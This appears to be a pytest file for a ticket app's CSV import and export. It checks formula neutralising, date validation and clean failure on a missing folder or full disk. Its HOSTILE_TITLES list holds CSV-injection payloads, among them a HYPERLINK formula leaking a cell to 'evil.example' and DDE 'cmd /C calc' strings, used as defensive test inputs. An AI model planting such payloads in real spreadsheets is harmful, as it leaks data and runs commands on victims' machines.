"""CSV against a malicious spreadsheet, a careless path and a full disk: formulas are neutralised
on export (and restored on import), dates from another era are refused with their line, and a
failed export leaves no file behind and no traceback."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.clock import TEST_NOW
from tests.databases import service_at
from ticketflow_desktop.cli import main
from ticketflow_desktop.domain import Category, Priority, TicketDraft
from ticketflow_desktop.services.tickets import TicketService
from ticketflow_desktop.services.transfer import (
    FORMULA_STARTS,
    ImportFailed,
    export_csv,
    import_csv,
    neutralise,
    restore,
)

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "''+twice",
    "plain title",
    "it's fine",
]


@given(st.text())
def test_neutralise_round_trips_and_never_starts_a_formula(cell: str) -> None:
    assert restore(neutralise(cell)) == cell
    assert neutralise(cell)[:1] not in FORMULA_STARTS


def test_export_neutralises_formulas_and_import_restores_them(
    service: TicketService, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    copy_url = f"sqlite:///{tmp_path / 'copy.sqlite3'}"
    for title in HOSTILE_TITLES:
        service.create(TicketDraft(title, "=1+1 in the description too", Category.GENERAL, Priority.LOW))
    buffer = io.StringIO()
    export_csv(service, buffer)
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))[1:]
    for row in rows:
        assert row[0][:1] not in FORMULA_STARTS and row[1][:1] not in FORMULA_STARTS, row
    assert {row[0] for row in rows} >= {"'" + HOSTILE_TITLES[0], "plain title", "''=already quoted"}
    raw = io.StringIO()
    export_csv(service, raw, raw=True)
    assert [r[0] for r in list(csv.reader(io.StringIO(raw.getvalue())))[1:]] == HOSTILE_TITLES
    # The exported file imports to the very same tickets.
    path = tmp_path / "out.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8")
    assert main(["--database-url", copy_url, "import", str(path)]) == 0
    capsys.readouterr()
    assert main(["--database-url", copy_url, "export", "-", "--raw"]) == 0
    again = list(csv.reader(io.StringIO(capsys.readouterr().out)))[1:]
    assert [(r[0], r[1]) for r in again] == [(t, "=1+1 in the description too") for t in HOSTILE_TITLES]


def _csv(*created: str) -> bytes:
    lines = ["title,description,category,priority,created_at"]
    lines += [f"Ticket {i},Body,general,low,{c}" for i, c in enumerate(created)]
    return ("\n".join(lines) + "\n").encode()


@pytest.mark.parametrize(
    ("created", "words"),
    [
        ("0001-01-01T00:00:00Z", "before 1970"),
        ("0001-01-01T00:00:00+05:00", "before 1970"),
        ("1969-12-31T23:59:59Z", "before 1970"),
        ((TEST_NOW + timedelta(days=2)).isoformat(), "more than a day in the future"),
        ("9999-12-31T23:59:59-05:00", "more than a day in the future"),
    ],
)
def test_dates_from_another_era_are_refused_with_their_line(
    service: TicketService, tmp_path: Path, created: str, words: str
) -> None:
    path = tmp_path / "in.csv"
    path.write_bytes(_csv("2026-01-01T09:00:00Z", created))
    with pytest.raises(ImportFailed) as caught:
        import_csv(service, path)
    [error] = caught.value.row_errors
    assert error.line == 3 and words in error.message
    assert service.count().value == 0  # all or nothing


def test_a_little_clock_skew_is_accepted(service: TicketService, tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    path.write_bytes(_csv("1970-01-01T00:00:00Z", (TEST_NOW + timedelta(hours=20)).isoformat()))
    assert import_csv(service, path).imported == 2


def test_export_to_a_missing_folder_says_so(
    sqlite_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "no such folder" / "out.csv"
    assert main(["--database-url", sqlite_url, "export", str(target)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("ticketflow: cannot export") and "does not exist" in err and "Traceback" not in err
    assert not target.parent.exists()


@pytest.fixture
def tiny_disk(tmp_path: Path) -> Iterator[Path]:
    if os.geteuid() != 0 or not sys.platform.startswith("linux"):
        pytest.skip("needs root and Linux to mount a tmpfs")
    point = tmp_path / "mnt"
    point.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(point)], capture_output=True)
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {mounted.stderr!r}")
    yield point
    subprocess.run(["umount", "-l", str(point)], check=False, capture_output=True)


def test_export_to_a_full_disk_leaves_nothing_behind(
    service: TicketService, sqlite_url: str, tiny_disk: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with service_at(sqlite_url) as local:
        for i in range(40):
            local.create(TicketDraft(f"Ticket {i}", "x" * 4_000, Category.GENERAL, Priority.LOW))
    target = tiny_disk / "out.csv"
    assert main(["--database-url", sqlite_url, "export", str(target)]) == 1
    err = capsys.readouterr().err
    assert "cannot export" in err and "No space left" in err and "nothing was written" in err
    assert "Traceback" not in err
    assert list(tiny_disk.iterdir()) == []  # no .partial, no truncated file
